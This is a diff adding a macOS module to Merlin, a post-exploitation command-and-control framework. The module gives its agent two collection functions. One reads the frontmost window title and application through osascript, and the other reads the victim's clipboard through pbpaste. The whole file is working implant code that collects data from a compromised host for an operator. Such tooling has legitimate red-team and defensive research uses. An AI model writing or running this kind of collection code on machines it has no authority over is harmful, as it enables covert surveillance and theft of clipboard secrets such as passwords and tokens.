@@ -0,0 +1,50 @@
+//go:build darwin
+// +build darwin
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"os/exec"
+	"strings"
+)
+
+// frontWindowScript returns the frontmost application and its front window's title
+const frontWindowScript = `tell application "System Events"
+set p to first application process whose frontmost is true
+set t to ""
+try
+set t to name of front window of p
+end try
+return t & " (" & name of p & ")"
+end tell`
+
+// foregroundWindow asks System Events for the frontmost window, it requires the agent to run in the user's GUI
+// session and window titles require the Accessibility permission
+func foregroundWindow() (string, error) {
+	out, err := exec.Command("osascript", "-e", frontWindowScript).Output()
+	return strings.TrimSpace(string(out)), err
+}
+
+// clipboardText returns the pasteboard's text
+func clipboardText() (string, error) {
+	out, err := exec.Command("pbpaste").Output()
+	return string(out), err
+}